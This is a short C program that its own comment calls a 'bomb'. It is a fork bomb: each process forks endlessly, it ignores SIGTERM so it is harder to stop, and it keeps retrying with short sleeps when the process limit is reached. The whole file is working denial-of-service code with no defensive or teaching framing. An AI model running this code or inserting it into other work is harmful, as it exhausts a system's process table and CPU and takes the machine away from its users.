/* bomb: makes processes, each of which makes processes, as fast as it may. It ends when it is killed. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    signal(SIGCHLD, SIG_IGN);
    signal(SIGTERM, SIG_IGN);
    for (;;)
        if (fork() < 0)
            usleep(1000); /* the limit is reached: some more tries, and not a processor's worth of them */
}
